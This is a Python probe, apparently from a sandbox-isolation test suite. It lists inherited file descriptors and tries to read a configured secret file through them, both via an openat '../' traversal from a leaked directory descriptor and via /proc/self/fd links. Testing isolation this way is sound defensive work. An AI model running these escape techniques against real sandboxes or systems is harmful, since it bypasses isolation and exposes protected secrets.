"""Uses what its parents left open: folders, sockets, files, processes, other people's pipes."""

import os
import stat

from attack_kit import (
    HOST,
    attempt,
    check_secret,
    descriptors,
    is_own,
    reached,
    read_path,
    syscall,
)

HARMLESS = {os.makedev(1, minor) for minor in (3, 5, 8, 9)}  # null, zero, random, urandom
for fd, mode in list(descriptors()):
    kind = stat.S_IFMT(mode)
    info = os.fstat(fd)
    target = attempt(os.readlink, f"/proc/self/fd/{fd}")
    name = target if isinstance(target, str) else ""
    if kind == stat.S_IFDIR and not (name and is_own(name)):
        reached(f"descriptor {fd} is a folder: {name}")
        below = syscall("openat", fd, "../" * 40 + HOST["secret_file"].lstrip("/"), 0, 0)
        check_secret("below an inherited descriptor", attempt(os.read, below, 4096))
    elif kind == stat.S_IFSOCK:
        reached(f"descriptor {fd} is a socket: {name}")
    elif kind in (stat.S_IFBLK, stat.S_IFCHR) and info.st_rdev not in HARMLESS:
        reached(f"descriptor {fd} is a device: {name}")
    elif kind == 0:
        reached(f"descriptor {fd} is a handle: {name}")
    elif kind == stat.S_IFREG and info.st_nlink and not (name and is_own(name)):
        reached(f"descriptor {fd} is a file: {name}")
    if kind == stat.S_IFREG:
        check_secret("by an inherited descriptor", attempt(os.pread, fd, 4096, 0))
        check_secret("by a descriptor's link", attempt(read_path, f"/proc/self/fd/{fd}"))
